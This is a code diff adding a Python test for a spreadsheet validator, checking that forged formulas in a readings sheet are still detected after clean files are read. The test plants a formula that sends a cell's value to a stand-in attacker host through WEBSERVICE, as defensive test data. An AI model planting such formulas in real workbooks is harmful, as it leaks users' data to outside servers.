@@ -489,3 +489,28 @@ def test_formulas_typed_in_libreoffice_outside_the_inputs_are_tampering(base, tm
     v = validate_returns(plan, [tmp_path / "r"])
     by = {(f.code, f.sheet, f.cell) for f in v.findings}
     assert {("T009", "Obiettivi", "B2"), ("T009", "Fasi", "A20"), ("T010", "Riepilogo", f"J{total_row}")} <= by
+
+
+def test_readings_sheet_formulas_are_checked_after_clean_files_of_the_same_plan(base, tmp_path):
+    """The template's formulas pass by sets remembered from the files read before (one
+    difference of sets a file): a forged formula among them, or one a row below the
+    readings, is still found in a file read after clean ones of the same plan."""
+    from pegxl.templates.formulas import SHEET_READINGS
+    plan = base[0]
+    good = _copy_good(base, tmp_path / "r")
+    first = validate_returns(plan, [tmp_path / "r"], jobs=1)
+    assert not [f for f in first.findings if f.code in ACTIVE_CODES]
+    hostile = tmp_path / "h" / good["S01"].name
+    hostile.parent.mkdir()
+    shutil.copy(good["S01"], hostile)
+    wb = openpyxl.load_workbook(hostile)
+    ws = wb[SHEET_READINGS]
+    forged = next(c for row in ws.iter_rows(min_row=2) for c in row if c.data_type == "f")
+    forged.value = '=WEBSERVICE("http://evil.example/?"&Obiettivi!L2)'
+    last = max(c.row for row in ws.iter_rows(min_row=2) for c in row if c.data_type == "f")
+    ws.cell(row=last + 1, column=forged.column, value="=Obiettivi!L2")
+    wb.save(hostile)
+    v = validate_returns(plan, [hostile.parent], jobs=1)
+    by = {(f.code, f.cell) for f in v.findings if f.sheet == SHEET_READINGS}
+    assert ("T010", forged.coordinate) in by
+    assert ("T009", f"{forged.column_letter}{last + 1}") in by
